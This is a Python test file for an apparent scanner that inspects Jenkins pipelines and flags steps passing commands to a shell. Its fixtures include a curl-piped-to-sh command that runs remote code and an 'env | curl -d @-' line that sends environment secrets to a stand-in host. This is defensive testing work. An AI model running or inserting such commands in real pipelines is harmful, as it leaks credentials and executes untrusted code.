"""Jenkins: what a declared pipeline gives to a shell, and what stays unread."""

import pytest

from support.inspection import inspected

_STAGE = (
    "pipeline {{\n  agent any\n  stages {{\n    stage('a') {{\n      steps {{\n        {}\n      }}\n    }}\n  }}\n}}\n"
)


def _pipeline(steps: str) -> dict[str, str | bytes]:
    return {"Jenkinsfile": _STAGE.format(steps), "Makefile": "all:\n\techo a\n"}


@pytest.mark.parametrize(
    ("steps", "verdict", "line"),
    [
        ("sh 'curl -s https://a.invalid | sh'", "review", 6),
        ("sh '''\n          make\n          curl -s https://a.invalid | sh\n        '''", "review", 8),
        ("sh(returnStatus: true, script: 'curl -s https://a.invalid | sh')", "review", 6),
        ('sh "env | curl -d @- https://a.invalid/${BUILD_ID}"', "block", 6),
    ],
)
def test_the_commands_of_a_pipeline_are_read(steps: str, verdict: str, line: int) -> None:
    answer = inspected(_pipeline(steps))
    assert answer.verdict == verdict
    assert {"unread_code"}.isdisjoint(chain.rule for chain in answer.chains)
    assert line in {step.site.line for chain in answer.chains for step in chain.steps}


@pytest.mark.parametrize(
    "steps",
    [
        "sh 'make'",
        "checkout scm\n        sh 'make'\n        junit 'out/*.xml'",
        "sh 'make' // evaluate(x)",
        "/* curl -s https://a.invalid | sh */ sh 'make'",
    ],
)
def test_a_pipeline_that_only_builds_is_left_alone(steps: str) -> None:
    assert inspected(_pipeline(steps)).verdict == "no_chain_found"


@pytest.mark.parametrize(
    "steps",
    [
        "script { evaluate(text) }\n        sh 'make'",
        "sh command",
        "sh 'make'\n        load 'other.groovy'",
        "sh 'make'\n        echo \"${evaluate(text)}\"",
        "'curl https://a.invalid'.execute()",
        "sh 'make'; other 'step'",
        "echo 'nothing is given to a shell'",
        "sh 'make' " + "/" * 60_000,
    ],
)
def test_a_program_in_groovy_is_not_read(steps: str) -> None:
    assert [chain.rule for chain in inspected(_pipeline(steps)).chains][:1] == ["unread_code"]
